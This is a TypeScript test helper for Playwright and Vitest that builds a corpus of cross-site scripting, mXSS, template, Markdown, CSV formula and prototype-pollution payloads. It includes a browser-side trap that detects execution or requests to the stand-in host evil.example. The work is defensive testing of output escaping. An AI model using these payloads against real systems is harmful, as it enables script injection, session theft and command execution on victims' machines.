// Strings that became scripts, requests or more elsewhere, and a trap that notices when one of them becomes more
// than text on any page of a browser. The strings follow the public lists (OWASP's cheat sheet, html5sec,
// PortSwigger's, those of mXSS in sanitisers, of formulas in CSV), written anew; what each of them does is call
// the trap, or ask a host that is nobody's.
import type { BrowserContext, Frame, Page } from "playwright-core";
import { expect } from "vitest";

/** What the strings call. */
const trapped = "trapped";

/** A host that no page of ours has any business with. */
export const foreign = "evil.example";

/** A string of the corpus. */
export interface Hostile {
  text: string;
  /** Whether it is seen to do harm in Chromium when a page takes it for HTML: the trap is proven with these. */
  html: boolean;
}

// Markup, as it stands in a page that forgets to escape.
const markup = (run: string): string[] => [
  `<img src=x onerror=${run}>`,
  `"><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `</textarea></title></style></noscript><img src=x onerror=${run}>`,
  `<IMG SRC=x OnErRoR="${run}">`,
  `<img/src="x"/onerror=${run}>`,
  `<img src=x:x onerror\n=\n${run}>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<math href="javascript:${run}">x</math>`,
  `<math><mi//xlink:href="data:text/html,<script>${run}</script>">x`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.${run}&lt;/script&gt;"></iframe>`,
  `<object data="data:text/html,<script>${run}</script>"></object>`,
  `<embed src="data:text/html,<script>${run}</script>">`,
  `<details open ontoggle=${run}>x</details>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}></audio>`,
  `<input autofocus onfocus=${run}>`,
  `<x tabindex=1 autofocus onfocus=${run}>x</x>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<style>@keyframes k{}</style><p style="animation-name:k" onanimationstart=${run}>x</p>`,
  `<meta http-equiv=refresh content="0;url=https://${foreign}/refresh">`,
  `<base href="https://${foreign}/"><img src=base.png>`,
  `<link rel=stylesheet href="https://${foreign}/x.css">`,
  `<style>@import "https://${foreign}/i.css"</style>`,
  `<p style="background:url(https://${foreign}/b.png)">x</p>`,
  `<form action="javascript:${run}"><input type=submit></form>`,
  `<button formaction="javascript:${run}">x</button>`,
  `<a href="javascript:${run}">x</a>`,
  `<a href="java&#10;script:${run}">x</a>`,
  `<a href="&#1; javascript:${run}">x</a>`,
  `<a href="data:text/html,<script>${run}</script>">x</a>`,
  `<a href="vbscript:${run}">x</a>`,
  `<p><template shadowrootmode=open><img src=x onerror=${run}></template></p>`,
  // Harmless as it is read, and harmful once it was read, written and read again.
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
  `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  `<svg><![CDATA[><image xlink:href="]]><img src=x onerror=${run}>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<?xml version="1.0"?><img src=x onerror=${run}>`,
  `<img ${"a=b ".repeat(120)}src=x onerror=${run}>`,
  `${"<b>".repeat(60)}<img src=x onerror=${run}>`,
];

// What is harmful in an attribute, an address, a script, a template, Markdown, a style sheet, a sheet of figures,
// as the key of an object, or to whom reads only some of the letters.
const others = (run: string): string[] => [
  `&lt;img src=x onerror=${run}&gt;`,
  `&amp;lt;img src=x onerror=${run}&amp;gt;`,
  `%3Cimg%20src%3Dx%20onerror%3D${run}%3E`,
  `\\u003cimg src=x onerror=${run}\\u003e`,
  `" onmouseover="${run}" autofocus onfocus="${run}" x="`,
  `' onmouseover='${run}' autofocus onfocus='${run}' x='`,
  `\` onmouseover=\`${run}\` autofocus onfocus=\`${run}\` x=\``,
  `';${run};//`,
  `\\';${run};//`,
  `");${run};//`,
  `\${${run}}`,
  `{{constructor.constructor('${run}')()}}`,
  `{{$on.constructor('${run}')()}}`,
  `<%= ${run} %>`,
  `#{${run}}`,
  `[[\${${run}}]]`,
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `javascript://https://a.example/%0a${run}`,
  `jar:javascript:${run}!/`,
  `data:text/html,<script>${run}</script>`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`,
  `vbscript:${run}`,
  `//${foreign}/slashes.js`,
  `\\\\${foreign}\\share\\x.png`,
  `https://${foreign}/a"onmouseover="${run}`,
  `https://user:pass@${foreign}/`,
  `[x](javascript:${run})`,
  `[x](JaVaScRiPt:${run})`,
  `[x](data:text/html;base64,PHNjcmlwdD50cmFwcGVkKDApPC9zY3JpcHQ+)`,
  `[x](//${foreign}/md)`,
  `[x](https://${foreign}/" onclick="${run})`,
  `![x](javascript:${run})`,
  `![x](https://${foreign}/md.png)`,
  `![" onerror="${run}](https://${foreign}/md2.png)`,
  `![x](https://${foreign}/md3.png "1x1" onerror=${run})`,
  `![x](/files/../api/session)`,
  `![x](https://${foreign}/film.mp4)`,
  `[▶ x](javascript:${run})`,
  `<javascript:${run}>`,
  `[x]: javascript:${run}`,
  `**<img src=x onerror=${run}>** \`<img src=x onerror=${run}>\``,
  `1. <img src=x onerror=${run}>\n2. <svg onload=${run}>`,
  `# <img src=x onerror=${run}>`,
  `expression(${run})`,
  `red;}*{background:url(https://${foreign}/css.png)}`,
  `\\3c img src=x onerror=${run}\\3e`,
  `=HYPERLINK("https://${foreign}/"&A1,"x")`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `＝HYPERLINK("https://${foreign}/")`,
  `{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}`,
  `__proto__`,
  `constructor`,
  `toString`,
  `＜img src=x onerror=${run}＞`,
  `<ımg src=x onerror=${run}>`,
  `<\u200bimg src=x onerror=${run}>`,
  `<img\u00a0src=x\u2003onerror=${run}>`,
  `\u202e>${run}=rorreno x=crs gmi<\u202c`,
  `\u2066\u2067<img src=x onerror=${run}>`,
  `x\u0301\u0302\u0303\u0304${"\u0489".repeat(40)}<img src=x onerror=${run}>`,
];

/** All strings; the call of each has its number. */
export const corpus: readonly Hostile[] = [
  ...markup("RUN").map((text) => ({ text, html: true })),
  ...others("RUN").map((text) => ({ text, html: false })),
].map(({ text, html }, i) => ({ text: text.replaceAll("RUN", `${trapped}(${i + 1})`), html }));

/** The corpus in texts of at most `most` characters each, in order, each behind the name of its field; what is longer alone is left out. */
export function packs(field: string, most: number, between = "\n"): string[] {
  const out: string[] = [];
  for (const { text } of corpus) {
    const one = between === "\n" ? text : text.replace(/\s+/g, " ");
    if (field.length + between.length + one.length > most) continue;
    const longer = `${out.at(-1) ?? ""}${between}${one}`;
    if (out.length > 0 && longer.length <= most) out[out.length - 1] = longer;
    else out.push(`${field}${between}${one}`);
  }
  return out;
}

/** One line for a small field: its name, and as it would stand in a page that forgot to escape. */
export const small = (field: string): string => `${field}"><img src=x onerror=${trapped}(0)>`;

/** Notices what becomes more than text in a browser: on all of its pages, in all of their frames, from their first moment on. */
export class Trap {
  /** What was noticed, in words. */
  readonly found: string[] = [];

  private constructor(private readonly context: BrowserContext) {}

  /** Sets the trap before the browser opens a page; `home` is the server whose pages it opens. */
  static async set(context: BrowserContext, home: string): Promise<Trap> {
    const trap = new Trap(context);
    const { found } = trap;
    await context.exposeFunction(trapped, (what: unknown) => {
      if (what !== fence) found.push(typeof what === "number" ? `ran: ${corpus[what - 1]?.text ?? "a small one"}` : String(what));
    });
    await context.addInitScript(watch, { trapped, home });
    // What leaves for another host got there by markup, styles or a redirection: the pages have none of their own.
    context.on("request", (r) => {
      if (/^(https?|wss?):/.test(r.url()) && new URL(r.url()).host !== new URL(home).host) found.push(`asked for ${r.url()}`);
    });
    context.on("page", (page) => {
      page.on("dialog", (d) => {
        found.push(`dialog: ${d.message()}`);
        void d.dismiss();
      });
      page.on("popup", (popup) => found.push(`popup: ${popup.url()}`));
    });
    return trap;
  }

  /** Expects that nothing was caught, when all pages have told what they know. */
  async empty(): Promise<void> {
    for (const page of this.context.pages()) await told(page);
    expect([...new Set(this.found)], "more than text").toEqual([]);
  }
}

const fence = "fence";

/** How long a page may take to show what it has, in milliseconds. */
export const patience = 30_000;

/** Resolves when what the frames of a page have noticed is here. */
export async function told(page: Page): Promise<void> {
  const ask = (frame: Frame) =>
    frame.evaluate(
      ([name, what]) => {
        const bent = Object.keys(Object.prototype).concat("polluted" in {} ? ["polluted"] : []);
        const tell = (window as unknown as Record<string, (what: string) => Promise<void>>)[name];
        return tell?.(bent.length > 0 ? `prototype: ${bent.join()}` : what);
      },
      [trapped, fence] as const,
    );
  // A frame that has gone meanwhile has nothing more to tell.
  for (const frame of page.frames()) await ask(frame).catch((error: unknown) => {
    if (!frame.isDetached()) throw error;
  });
}

/**
 * Runs in every frame before its own scripts: looks at every element that comes and every attribute that changes,
 * also in shadow trees, and hears what the Content-Security-Policy refuses. That the policy would have stopped a
 * string is no comfort: what asks it is in the page as markup already, and the next one may find a way by it.
 */
function watch({ trapped, home }: { trapped: string; home: string }): void {
  const tell = (what: string) => void (window as unknown as Record<string, (what: string) => void>)[trapped]?.(what);
  const show = (el: Element) => `${el.tagName} in ${location.pathname}: ${el.outerHTML.slice(0, 200)}`;
  const never = "object,embed,applet,base,frame,frameset,marquee,math,animate,set,foreignObject,meta[http-equiv],script:not([src])";
  const addresses = ["href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcset", "srcdoc", "background"];
  const framed = ["/chat/", "/console/preview#"];
  const tame = (value: string, at: string): boolean => {
    if (at === "srcdoc") return false;
    if (value === "data:,") return true; // the icon of our pages: none
    try {
      const { protocol } = new URL(value, location.href);
      return ["http:", "https:", "blob:", "about:"].includes(protocol) || (at === "src" && value.startsWith("data:image/"));
    } catch {
      return true; // leads nowhere
    }
  };
  const look = (el: Element) => {
    if (el.matches(never) || el instanceof HTMLUnknownElement) tell(`markup: ${show(el)}`);
    if (el instanceof HTMLIFrameElement && el.src && !framed.some((path) => el.src.startsWith(home + path))) tell(`frame: ${show(el)}`);
    for (const { name, value } of el.attributes) {
      if (/^on/i.test(name)) tell(`handler: ${show(el)}`);
      if (name === "style" && /url\(/i.test(value)) tell(`style: ${show(el)}`); // before it is asked for
      if (addresses.includes(name) && !tame(value, name)) tell(`address: ${show(el)}`);
    }
    for (const inner of el.shadowRoot?.querySelectorAll("*") ?? []) look(inner); // of one that was written, not attached
  };
  const observe = (root: Node) =>
    new MutationObserver((all) => {
      for (const { type, target, addedNodes } of all) {
        if (type === "attributes") look(target as Element);
        for (const node of addedNodes) {
          if (!(node instanceof Element)) continue;
          look(node);
          for (const el of node.querySelectorAll("*")) look(el);
        }
      }
    }).observe(root, { childList: true, subtree: true, attributes: true });
  observe(document);
  const attach = Element.prototype.attachShadow;
  Element.prototype.attachShadow = function (how) {
    const root = attach.call(this, how);
    observe(root);
    return root;
  };
  addEventListener("securitypolicyviolation", (e) => tell(`policy: ${e.violatedDirective} ${e.blockedURI} in ${location.pathname}`));
}

/** All that stands on a page and in its frames: its words, what its boxes hold, its title. */
export async function shownOn(page: Page): Promise<string> {
  const all = page.frames().map((frame) =>
    frame
      .evaluate(() => {
        const boxes = [...document.querySelectorAll("input, textarea")].map((box) => (box as HTMLInputElement).value);
        const named = [...document.querySelectorAll("[title], [aria-label], [alt]")].flatMap((el) => ["title", "aria-label", "alt"].map((a) => el.getAttribute(a) ?? ""));
        const shadows = [...document.querySelectorAll("*")].map((el) => el.shadowRoot?.textContent ?? "");
        return [document.title, document.body?.innerText, ...boxes, ...named, ...shadows].join("\n");
      })
      .catch(() => ""),
  );
  return (await Promise.all(all)).join("\n");
}

/** Waits until these fields, which `packs` or `small` filled (or that are a text themselves), stand on a page as they were written. */
export async function shows(page: Page, ...fields: string[]): Promise<void> {
  const missing = async () => {
    const shown = (await shownOn(page)).replace(/\s+/g, "");
    const stands = (field: string) => ["<imgsrc=xonerror=", '"><imgsrc=xonerror='].some((start) => shown.includes(field + start)) || (field.includes("<") && shown.includes(field.replace(/\s+/g, "")));
    return fields.filter((field) => !stands(field));
  };
  await expect.poll(missing, { message: `on ${page.url()}`, timeout: patience }).toEqual([]);
}
